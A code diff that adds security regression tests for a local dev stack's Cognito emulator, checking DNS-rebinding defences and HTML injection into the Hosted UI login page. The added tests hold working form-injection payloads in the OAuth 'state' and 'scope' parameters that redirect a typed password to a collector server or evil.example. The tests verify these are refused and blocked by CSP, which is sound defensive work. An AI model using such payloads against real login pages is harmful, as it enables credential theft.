@@ -1,17 +1,24 @@
 // Attacks on `npm start` from web pages the developer visits (attacker review, issue 29): a page
-// whose DNS name is rebound to 127.0.0.1 calls the dev API with the demo users' printed passwords.
-// Each test fails on the code before its fix.
+// whose DNS name is rebound to 127.0.0.1 calls the dev API with the demo users' printed passwords,
+// and a link writes a second form into the emulator's Hosted UI login page. Each test fails on the
+// code before its fix.
 import assert from "node:assert/strict";
-import { request, type IncomingHttpHeaders } from "node:http";
+import { createServer, request, type IncomingHttpHeaders, type Server } from "node:http";
 import { connect } from "node:net";
 import { after, before, describe, it } from "node:test";
+import { DescribeUserPoolClientCommand } from "@aws-sdk/client-cognito-identity-provider";
+import type { Browser } from "playwright-core";
+import { randomState } from "openid-client";
 import { DEMO_USERS } from "../src/cognito/bootstrap.ts";
+import { createCognitoClient } from "../src/cognito/client.ts";
 import { ConfigError } from "../src/config.ts";
 import { devApiConfig } from "../src/dev-api-config.ts";
+import { launchChromium, requiresChromium } from "./support/browser.ts";
 import { startDevStack, type DevStack } from "./support/dev-stack.ts";
 import { issuerAndServer } from "./support/server.ts";
 
 const admin = DEMO_USERS.find((u) => u.groups.includes("admin"))!;
+const member = DEMO_USERS.find((u) => u.groups.length === 0)!;
 
 interface Answer {
   status: number;
@@ -142,6 +149,128 @@ describe("the dev stack against web pages", () => {
       for (const host of ["evil.example", "10.0.3.7:8001", "10.0.3.7", "api.example.org.evil.example", "[fd00::7]"]) {
         assertMisdirected(await send(listed.url, "GET", "/readyz", { host }), host);
       }
+    });
+  });
+
+  describe("the Hosted UI's login page", () => {
+    let cognito: ReturnType<typeof createCognitoClient>;
+    let collector: Server;
+    let collected: string[];
+    let evil: string;
+    before(async () => {
+      cognito = createCognitoClient({ region: "us-east-1", endpoint: stack.emulator.url, useDummyCredentials: true }, { maxAttempts: 1 });
+      collected = [];
+      collector = createServer((req, res) => {
+        collected.push(`${req.method} ${req.url}`);
+        res.end("thanks");
+      });
+      await new Promise<void>((resolve) => collector.listen(0, "127.0.0.1", resolve));
+      evil = `http://127.0.0.1:${(collector.address() as { port: number }).port}`;
+    });
+    after(async () => {
+      cognito?.destroy();
+      collector?.closeAllConnections();
+      await new Promise((resolve) => collector?.close(resolve));
+    });
+
+    const CALLBACK = "http://localhost:5173/";
+    const authorize = (params: Record<string, string>, extra = "") => {
+      const query = new URLSearchParams({ client_id: stack.webClientId, redirect_uri: CALLBACK, response_type: "code", code_challenge: "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", code_challenge_method: "S256", ...params });
+      return `${stack.emulator.url}/oauth2/authorize?${query}${extra}`;
+    };
+    /** A link whose state ends the login form and opens one that posts to the collector. */
+    const injectedState = () => `"></form><form method="POST" action="${evil}/collect"><input type="hidden" name="x" value="`;
+
+    it("refuses a link whose parameters would write HTML into the page, GET and POST alike; real clients' states pass", async () => {
+      for (const [params, extra, name] of [
+        [{ state: injectedState() }, "", "state"],
+        [{ state: "ok" }, `&state=${encodeURIComponent('"><b>')}`, "state"],
+        [{ scope: 'openid"><form action="https://evil.example/">' }, "", "scope"],
+        [{ code_challenge: "<x>".padEnd(43, "a") }, "", "code_challenge"],
+        [{ state: "a&amp;b" }, "", "state"],
+        [{ state: "caf\u00e9" }, "", "state"],
+      ] as const) {
+        const res = await fetch(authorize(params, extra));
+        assert.equal(res.status, 400, `${JSON.stringify(params)}${extra}`);
+        const body = (await res.json()) as { error: string; error_description: string };
+        assert.equal(body.error, "invalid_request");
+        assert.match(body.error_description, new RegExp(`^${name} `));
+      }
+      // After a wrong password the engine writes the posted values back into the page.
+      const posted = await fetch(`${stack.emulator.url}/oauth2/authorize`, {
+        method: "POST",
+        headers: { "content-type": "application/x-www-form-urlencoded" },
+        body: new URLSearchParams({ client_id: stack.webClientId, redirect_uri: CALLBACK, response_type: "code", code_challenge: "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", code_challenge_method: "S256", state: injectedState(), username: member.username, password: "wrong" }),
+      });
+      assert.equal(posted.status, 400);
+      assert.ok(!(await posted.text()).includes(evil));
+      // Amplify's (alphanumeric, then its custom state in hex), openid-client's (base64url), base64.
+      for (const state of [`${"aZ09".repeat(8)}-${Buffer.from("/projects?x=1").toString("hex")}`, randomState(), "a+b/c==", "with space"]) {
+        const page = await fetch(authorize({ state }));
+        assert.equal(page.status, 200, state);
+        assert.ok((await page.text()).includes(`name="state" value="${state}"`), state);
+      }
+    });
+
+    it("its form leads only to the emulator and the client's own callback origins", async () => {
+      const callbacks = async (clientId: string) =>
+        (await cognito.send(new DescribeUserPoolClientCommand({ UserPoolId: stack.userPoolId, ClientId: clientId }))).UserPoolClient!.CallbackURLs!;
+      const formAction = async (url: string) => /form-action ([^;]*)/.exec((await fetch(url)).headers.get("content-security-policy") ?? "")?.[1];
+      const webOrigins = [...new Set((await callbacks(stack.webClientId)).map((url) => new URL(url).origin))];
+      assert.ok(webOrigins.includes("http://localhost:5173"), webOrigins.join());
+      assert.equal(await formAction(authorize({ state: "s" })), ["'self'", ...webOrigins].join(" "));
+      const backend = (await callbacks(stack.clientId))[0]!;
+      assert.equal(await formAction(authorize({ client_id: stack.clientId, redirect_uri: backend, state: "s" })), `'self' ${new URL(backend).origin}`);
+      assert.equal(await formAction(`${stack.emulator.url}/${stack.userPoolId}/.well-known/jwks.json`), "'self'");
+    });
+
+    describe("in Chromium", requiresChromium(), () => {
+      let browser: Browser;
+      before(async () => {
+        browser = await launchChromium();
+      });
+      after(async () => {
+        await browser?.close();
+      });
+
+      it("a password typed into an injected login page reaches no other site; a form made to post elsewhere is blocked; sign-in reaches the callback", async () => {
+        const context = await browser.newContext();
+        try {
+          const page = await context.newPage();
+          collected.length = 0;
+          // The attack: the developer opens the link and signs in as the page asks.
+          const answer = await page.goto(authorize({ state: injectedState() }));
+          if (await page.$("input[type=password]")) {
+            await page.fill("input[name=username]", admin.username);
+            await page.fill("input[name=password]", admin.password);
+            await page.click("button[type=submit]");
+            await page.waitForLoadState();
+          }
+          assert.deepEqual(collected, [], "the typed password was posted to the collector");
+          assert.equal(answer?.status(), 400);
+          // Whatever else gets into the page: its form posts only to the emulator and the callbacks.
+          await page.goto(authorize({ state: "s" }));
+          const violation = page.waitForEvent("console", { predicate: (m) => /form-action/.test(m.text()), timeout: 3000 }).catch(() => undefined);
+          await page.evaluate((action) => {
+            const form = document.querySelector("form")!;
+            form.action = action;
+            form.submit();
+          }, `${evil}/collect`);
+          assert.ok(await violation, "Chromium reported no form-action violation");
+          assert.deepEqual(collected, [], "a form made to post elsewhere reached the collector");
+          // Sign-in itself: the form's POST is redirected to the callback (CSP3 holds redirects to form-action too).
+          await page.goto(authorize({ state: "the-state" }));
+          await page.fill("input[name=username]", member.username);
+          await page.fill("input[name=password]", member.password);
+          // Nothing listens there: the request leaving for it is what CSP would have stopped.
+          const [reached] = await Promise.all([page.waitForRequest((r) => r.url().startsWith(CALLBACK), { timeout: 5000 }), page.click("button[type=submit]")]);
+          const callback = new URL(reached.url());
+          assert.equal(callback.searchParams.get("state"), "the-state");
+          assert.ok(callback.searchParams.get("code"));
+        } finally {
+          await context.close();
+        }
+      });
     });
   });
 });
